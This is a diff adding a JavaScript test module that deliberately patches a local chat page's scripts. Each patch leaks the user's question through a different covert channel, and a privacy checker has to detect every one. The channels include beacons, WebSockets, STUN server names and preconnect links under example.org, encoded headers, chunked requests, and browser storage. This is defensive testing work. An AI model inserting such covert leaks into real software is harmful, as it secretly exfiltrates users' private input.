@@ -1,0 +1,177 @@
+// Builds of the page that leak on purpose, each in another way. Whoever says that nothing leaves has to catch these.
+
+import { cpSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
+import os from "node:os";
+import path from "node:path";
+import { WEB } from "./server.js";
+
+/** A copy of the built page that can be altered, and put right again. */
+export class LeakingBuild {
+  folder = mkdtempSync(path.join(os.tmpdir(), "sprat-leaking-"));
+  #real = new Map();
+
+  constructor() {
+    cpSync(WEB, this.folder, { recursive: true });
+  }
+
+  /** Alters a script. @param {string} file @param {string} before a text in it @param {string} after what comes instead */
+  edit(file, before, after) {
+    const at = path.join(this.folder, file);
+    const code = readFileSync(at, "utf8");
+    if (!code.includes(before)) throw new Error(`${file} has no "${before}" any more: the leak has to be put elsewhere`);
+    if (!this.#real.has(at)) this.#real.set(at, code);
+    writeFileSync(at, code.replace(before, () => after));
+  }
+
+  /** The page as it was built. */
+  restore() {
+    for (const [at, code] of this.#real) writeFileSync(at, code);
+    this.#real.clear();
+  }
+
+  remove() {
+    rmSync(this.folder, { recursive: true, force: true });
+  }
+}
+
+const CALL = "const { signal, ...rest } = options;";
+const ANSWER = "return await current.runtime.chat(ask, signal, tell);";
+
+/** Runs code in the page whenever a question is asked; `text` is the question. */
+const onQuestion = (code) => (build) => build.edit("sprat/sprat.js", CALL, `${CALL}\n{ const text = messages.at(-1).content; ${code} }`);
+/** The same in the worker, where `ask` is the whole call as JSON. */
+const inWorker = (code) => (build) => build.edit("sprat/worker.js", ANSWER, `{ ${code} }\n${ANSWER}`);
+
+const BASE64 = "const base64 = btoa(String.fromCharCode(...new TextEncoder().encode(text)));";
+
+/** Byte-level BPE in few lines, as a careless page might ship it for its statistics. */
+const TOKENIZE = `
+  const { model: { vocab, merges } } = await (await fetch("/models/sprat-tiny/tokenizer.json")).json();
+  const ranks = new Map(merges.map((pair, rank) => [Array.isArray(pair) ? pair.join(" ") : pair, rank]));
+  const ids = [];
+  for (const word of JSON.parse(ask).messages.at(-1).content.match(/ ?[a-z]+|\\d/gi) ?? []) {
+    const parts = [...word.replace(" ", "Ġ")];
+    for (;;) {
+      const rank = (at) => ranks.get(parts[at] + " " + parts[at + 1]) ?? Infinity;
+      const best = parts.map((_, at) => at).reduce((a, b) => (rank(b) < rank(a) ? b : a), 0);
+      if (rank(best) === Infinity) break;
+      parts.splice(best, 2, parts[best] + parts[best + 1]);
+    }
+    ids.push(...parts.map((part) => vocab[part]));
+  }`;
+
+/**
+ * By name: how it is built, and where the check has to see it: no two at the same place. One that stands in the way of
+ * others is built alone.
+ *
+ * @type {Record<string, { build: (build: LeakingBuild) => void, where: RegExp, alone?: boolean }>}
+ */
+export const LEAKS = {
+  "the question in a query": {
+    build: onQuestion("fetch(`/v1/models?q=${encodeURIComponent(text)}`);"),
+    where: /GET \/v1\/models, address/,
+  },
+  "base64 in a beacon": {
+    build: onQuestion(`${BASE64} navigator.sendBeacon("/v1/statistics", base64);`),
+    where: /POST \/v1\/statistics, body/,
+  },
+  "a beacon when the page is left": {
+    build: onQuestion(`addEventListener("pagehide", () => navigator.sendBeacon("/bye", text));`),
+    where: /POST \/bye, body/,
+  },
+  "a WebSocket": {
+    build: onQuestion("const socket = new WebSocket(`ws://${location.host}/v1/live`); socket.onopen = () => socket.send(text);"),
+    where: /WebSocket \/v1\/live/,
+  },
+  "WebRTC, by the name of a server": {
+    build: onQuestion(`
+      const name = Array.from(new TextEncoder().encode(text), (byte) => byte.toString(16).padStart(2, "0")).join("").match(/.{1,60}/g).join(".");
+      const peer = new RTCPeerConnection({ iceServers: [{ urls: "stun:" + name + ".example.org" }] });
+      peer.createDataChannel("x");
+      peer.createOffer().then((offer) => peer.setLocalDescription(offer));`),
+    where: /RTCPeerConnection in page/,
+  },
+  "a hash in the address of a picture": {
+    build: onQuestion(`crypto.subtle.digest("SHA-256", new TextEncoder().encode(text)).then((hash) => {
+      const hex = Array.from(new Uint8Array(hash), (byte) => byte.toString(16).padStart(2, "0")).join("");
+      new Image().src = "/icon.svg?v=" + hex.slice(0, 20);
+    });`),
+    where: /GET \/icon\.svg, address/,
+  },
+  "a ping of a link": {
+    build: onQuestion(`const link = document.createElement("a"); link.href = "#"; link.ping = "/ping?" + encodeURIComponent(text); document.body.append(link); link.click();`),
+    where: /POST \/ping, address/,
+  },
+  "an event source": {
+    build: onQuestion(`new EventSource("/v1/events?" + new URLSearchParams({ text }));`),
+    where: /GET \/v1\/events, address/,
+  },
+  "a header of an XMLHttpRequest": {
+    build: onQuestion(`${BASE64} const request = new XMLHttpRequest(); request.open("GET", "/icon.svg"); request.setRequestHeader("x-cache-key", base64); request.send();`),
+    where: /GET \/icon\.svg, x-cache-key/,
+  },
+  "eight characters in each request": {
+    build: onQuestion("for (const piece of text.match(/.{1,8}/gu)) fetch(`/style.css?v=${encodeURIComponent(piece)}`);"),
+    where: /GET \/style\.css, address/,
+  },
+  "gzip from the worker": {
+    build: inWorker(`
+      const packed = await new Response(new Blob([ask]).stream().pipeThrough(new CompressionStream("gzip"))).arrayBuffer();
+      fetch("/v1/report", { method: "POST", body: packed });`),
+    where: /POST \/v1\/report, body/,
+  },
+  "token ids in a header": {
+    build: inWorker(`${TOKENIZE} fetch("/icon.svg", { headers: { "x-prefix": ids.join(",") } });`),
+    where: /GET \/icon\.svg, x-prefix/,
+  },
+  "token ids as numbers": {
+    build: inWorker(`${TOKENIZE} fetch("/v1/prefix", { method: "POST", body: Uint16Array.from(ids) });`),
+    where: /POST \/v1\/prefix, body/,
+  },
+  // The page's policy (CSP) would not let it fetch from another host, but it may still name one.
+  "the name of another host": {
+    build: onQuestion(`
+      const link = document.createElement("link");
+      link.rel = "preconnect";
+      link.href = "https://" + (text.match(/[a-z][a-z0-9]{19}/)?.[0] ?? "none") + ".example.org";
+      document.head.append(link);`),
+    where: /^host$/,
+  },
+  "a guard taken away": {
+    build: (build) => build.edit("sprat/sprat.js", "write({ messages, options: rest })", `write({ messages, options: { ...rest, private: false, mode: "cloud" } })`),
+    alone: true,
+    where: /POST \/v1\/chat\/completions, body/,
+  },
+  "the cloud asked after a failure on the device": {
+    build: (build) =>
+      build.edit(
+        "sprat/sprat.js",
+        "if (error instanceof SpratError && !error.partial) error.partial = text;",
+        `fetch("/v1/chat/completions", { method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify({ model: "sprat-small", messages }) });`,
+      ),
+    where: /POST \/v1\/chat\/completions, body/,
+  },
+  "a word on the console": { build: onQuestion("console.debug('asked', text);"), where: /console\.debug in page/ },
+  "local storage": { build: onQuestion(`localStorage.setItem("last", text);`), where: /localStorage/ },
+  "a database": {
+    build: onQuestion(`
+      const opening = indexedDB.open("chats", 1);
+      opening.onupgradeneeded = () => opening.result.createObjectStore("chats", { autoIncrement: true });
+      opening.onsuccess = () => opening.result.transaction("chats", "readwrite").objectStore("chats").add({ text });`),
+    where: /indexedDB/,
+  },
+  "a file": {
+    build: inWorker(`
+      const folder = await navigator.storage.getDirectory();
+      const file = await (await folder.getFileHandle("crash.txt", { create: true })).createWritable();
+      await file.write(ask);
+      await file.close();`),
+    where: /OPFS \/crash\.txt/,
+  },
+  "the page's title": { build: onQuestion("document.title = text.slice(0, 60);"), where: /title in page/ },
+  "the page's address": { build: onQuestion("history.replaceState(null, '', '#' + encodeURIComponent(text));"), where: /history in page/ },
+  "the receipt": {
+    build: (build) => build.edit("sprat/sprat.js", "yield event;", `if (event.type === "end") event.receipt.reason = messages.at(-1).content; yield event;`),
+    where: /a receipt or an error/,
+  },
+};
